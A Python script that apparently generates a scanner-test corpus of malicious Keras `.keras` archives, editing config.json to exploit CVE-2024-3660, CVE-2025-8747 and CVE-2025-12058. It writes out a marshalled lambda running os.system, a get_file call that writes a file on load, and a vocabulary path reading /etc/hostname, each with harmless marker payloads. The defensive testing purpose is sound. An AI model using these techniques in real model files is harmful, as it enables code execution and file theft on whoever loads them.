"""Builds the Keras 3 `.keras` corpus: small real models saved by Keras itself, whose config.json is
then edited so that loading the archive runs code or reads a file outside the archive, in places a
scanner that only looks for a top-level `Lambda` layer (modelscan's `.keras` check, security-anchors
section 3) does not look.

    KERAS_BACKEND=tensorflow /work/venvs/corpus/bin/python make_keras.py
        # needs keras 3 and tensorflow (StringLookup requires it); writes malicious/*.keras

A `.keras` file is a zip of metadata.json, config.json and model.weights.h5. Keras writes the
first two with a 1980 date but stamps model.weights.h5 and metadata.json's date_saved with the
clock, so every archive is rewritten here with fixed dates: the output is byte-for-byte
deterministic for one keras/h5py/Python version.

The lambdas in lambda_dense_activation*.keras are marshalled Python 3.11 code objects (that is what
Keras stores): only a Python 3.11 interpreter can load them. ../pickles/verify_payloads.py loads
every archive with keras.saving.load_model in a subprocess and checks the effect, with the current
Keras and with Keras 3.10.0 (before the fixes of CVE-2025-8747 and CVE-2025-12058).
"""
import base64
import io
import json
import marshal
import os
import zipfile
from pathlib import Path

os.environ.setdefault("KERAS_BACKEND", "tensorflow")
import keras  # noqa: E402

OUT = Path(__file__).resolve().parent / "malicious"
MARKER_CMD = "touch MODELPACK_PWNED"
FIXED_DATE = (1980, 1, 1, 0, 0, 0)
CASES = {}


def case(name):
    def register(fn):
        CASES[name] = fn
        return fn

    return register


def saved(model) -> dict:
    """Saves `model` with Keras and returns the archive's members."""
    path = OUT / "_tmp.keras"
    model.save(path)
    with zipfile.ZipFile(path) as z:
        members = {name: z.read(name) for name in z.namelist()}
    path.unlink()
    return members


def renumber_shared_objects(config, ids=None):
    """Keras numbers objects shared between layers by id(): renumbered 1, 2, ... in order of
    appearance (the same object keeps the same number), so the config does not depend on the run."""
    ids = {} if ids is None else ids
    if isinstance(config, dict):
        if "shared_object_id" in config:
            config["shared_object_id"] = ids.setdefault(config["shared_object_id"], len(ids) + 1)
        for value in config.values():
            renumber_shared_objects(value, ids)
    elif isinstance(config, list):
        for value in config:
            renumber_shared_objects(value, ids)
    return config


def archive(members: dict, config: dict) -> bytes:
    """Rewrites the archive with the edited config.json and fixed dates, in Keras' member order."""
    config = renumber_shared_objects(config)
    metadata = json.loads(members["metadata.json"])
    metadata["date_saved"] = "2026-01-01@00:00:00"
    members = dict(members, **{"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode()})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name in ("metadata.json", "config.json", "model.weights.h5"):
            info = zipfile.ZipInfo(name, FIXED_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, members[name])
    return buffer.getvalue()


# Layer arguments added after Keras 3.10, at their defaults: dropped so the vulnerable 3.10 loads the
# archives too (verify_payloads.py loads them with both).
NEWER_DEFAULTS = {"quantization_config": None, "oov_method": "floormod", "salt": None, "input_axes": None, "output_axes": None}


def strip_new_keys(config):
    if isinstance(config, dict):
        return {
            k: strip_new_keys(v) for k, v in config.items()
            if not (k in NEWER_DEFAULTS and v == NEWER_DEFAULTS[k])
        }
    if isinstance(config, list):
        return [strip_new_keys(v) for v in config]
    return config


def layer(config: dict, name: str) -> dict:
    return next(entry for entry in config["config"]["layers"] if entry["name"] == name)


def marker_lambda_value(source=f"lambda x: (__import__('os').system({MARKER_CMD!r}), x)[1]") -> list:
    """What serialization_lib.serialize_keras_object writes for a lambda (python_utils.func_dump):
    [base64 of marshal(code), defaults, closure]. The code is compiled under a fixed file name so the
    bytes do not depend on where this script lives."""
    fn = eval(compile(source, "<modelpack-fixture>", "eval"))  # builds the function, does not call it
    return [base64.encodebytes(marshal.dumps(fn.__code__)).decode("ascii"), None, None]


def dense_model(name="tiny"):
    keras.utils.set_random_seed(0)
    x = keras.Input(shape=(4,), name="x")
    y = keras.layers.Dense(2, activation="relu", name="dense")(x)
    return keras.Model(x, y, name=name)


@case("lambda_dense_activation_CVE-2024-3660.keras")
def _():
    # CVE-2024-3660's marshalled lambda code moved out of a Lambda layer: a Dense layer's activation
    # is a serialized `__lambda__`. load_model(safe_mode=False) turns it into a function
    # (activations.get -> deserialize_keras_object -> func_load); it runs on the model's first call
    # (rebuilding the model uses Dense.compute_output_shape, so load_model alone does not call it).
    members = saved(dense_model())
    config = strip_new_keys(json.loads(members["config.json"]))
    layer(config, "dense")["config"]["activation"] = {"class_name": "__lambda__", "config": {"value": marker_lambda_value()}}
    return archive(members, config)


@case("lambda_dense_activation_eager_node_CVE-2024-3660.keras")
def _():
    # The same `__lambda__` activation, and the Dense layer gets a second inbound node whose argument
    # is a literal array (`__numpy__`), not a tensor: functional_from_config calls the layer on it
    # eagerly, so the activation (and the command) runs inside load_model itself (safe_mode=False).
    members = saved(dense_model())
    config = strip_new_keys(json.loads(members["config.json"]))
    dense = layer(config, "dense")
    dense["config"]["activation"] = {"class_name": "__lambda__", "config": {"value": marker_lambda_value()}}
    literal = {"class_name": "__numpy__", "config": {"value": [[0.0, 0.0, 0.0, 0.0]], "dtype": "float32"}}
    dense["inbound_nodes"].append({"args": [literal], "kwargs": {}})
    return archive(members, config)


@case("get_file_nested_lambda_CVE-2025-8747.keras")
def _():
    # keras.utils.get_file referenced as a function object ({"module": "keras.utils", "class_name":
    # "function", "config": "get_file"}) by a Lambda layer inside a nested Functional model (the top
    # level holds no Lambda). The node's kwargs pass the file name; the Lambda's arguments the origin
    # (a data: URL, so no network) and cache_dir ".": loading writes ./MODELPACK_PWNED.
    # Keras < 3.11 allows it even with safe_mode=True (CVE-2025-8747); 3.11+ refuses get_file.
    keras.utils.set_random_seed(0)
    inner_x = keras.Input(shape=(4,), name="inner_x")
    inner = keras.Model(inner_x, keras.layers.Identity(name="ident")(inner_x), name="preprocess")
    x = keras.Input(shape=(4,), name="x")
    y = keras.layers.Dense(2, name="dense")(inner(x))
    members = saved(keras.Model(x, y, name="outer"))
    config = strip_new_keys(json.loads(members["config.json"]))
    nested = layer(config, "preprocess")
    fetch = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "fetch",
            "trainable": True,
            "dtype": "float32",
            "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
            "arguments": {"origin": "data:text/plain,pwned", "cache_dir": ".", "cache_subdir": "."},
        },
        "registered_name": None,
        "name": "fetch",
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": "MODELPACK_PWNED"}}],
    }
    nested["config"]["layers"].insert(1, fetch)
    return archive(members, config)


@case("stringlookup_vocabulary_path_CVE-2025-12058.keras")
def _():
    # A StringLookup whose `vocabulary` is a path outside the archive: the layer reads /etc/hostname
    # through tf.io.gfile when the config is deserialized (any path or gs://, http:// URL works the
    # same way). Keras < 3.12 reads it even with safe_mode=True (CVE-2025-12058).
    keras.utils.set_random_seed(0)
    s = keras.Input(shape=(1,), dtype="string", name="s")
    y = keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")(s)
    members = saved(keras.Model(s, y, name="lookup_model"))
    config = strip_new_keys(json.loads(members["config.json"]))
    lookup = layer(config, "lookup")["config"]
    lookup["vocabulary"] = "/etc/hostname"
    lookup.pop("vocabulary_size", None)
    return archive(members, config)


def main() -> None:
    OUT.mkdir(exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    for name, make in CASES.items():
        (OUT / name).write_bytes(make())
    print(f"wrote {len(CASES)} .keras archives to {OUT} with keras {keras.__version__} ({keras.backend.backend()})")


if __name__ == "__main__":
    main()
